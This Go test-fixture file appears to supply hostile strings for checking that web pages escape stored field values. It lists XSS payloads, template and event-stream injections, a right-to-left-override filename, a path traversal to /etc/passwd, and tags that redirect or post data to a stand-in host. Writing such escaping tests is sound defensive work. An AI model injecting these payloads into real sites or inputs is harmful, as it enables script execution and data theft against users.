// Package hostile has texts for tests of pages: a store can contain them in each of its fields.
package hostile

// Texts returns texts that would run the script xss, or break out of where they are put, if a page did not escape them.
func Texts() []string {
	return []string{
		`<script>xss()</script>`, `"><img src=x onerror=xss()>`, `'><svg onload=xss()>`, `</script><script>xss()</script>`, `</title><xss>`, `</textarea><xss>`, `</template><xss>`, `</svg><xss>`,
		`javascript:xss()`, `" onmouseover="xss()`, `' onfocus='xss()' autofocus='`, "` onerror=xss() `", `{{.}}`, `{{template "page"}}`, `${xss()}`, `<!--`, `-->`, `]]>`, `<![CDATA[`,
		`<a href="javascript:xss()">x</a>`, `<iframe srcdoc="<script>xss()</script>">`, `<base href="https://evil.example.com/">`, `<meta http-equiv="refresh" content="0;url=https://evil.example.com/">`,
		`<form action="https://evil.example.com/"><input>`, `<style>*{background:url(https://evil.example.com/)}</style>`, `<link rel=stylesheet href=https://evil.example.com/>`,
		`&lt;xss&gt;`, `&#60;xss&#62;`, "a\r\nb", "a\nevent: message\ndata: {}\n\nb", "\u2028\u2029", "\u202egnp.exe", "\x7f", "\ufeff", `\u003cxss\u003e`, `%3Cxss%3E`, `../../etc/passwd`, `?a=b&c=d#e`, `+ab c`, `a/b`, `a?b`, `a%b`, `a#b`, `"`, `'`, `\`, `<`, `>`, `&`,
	}
}
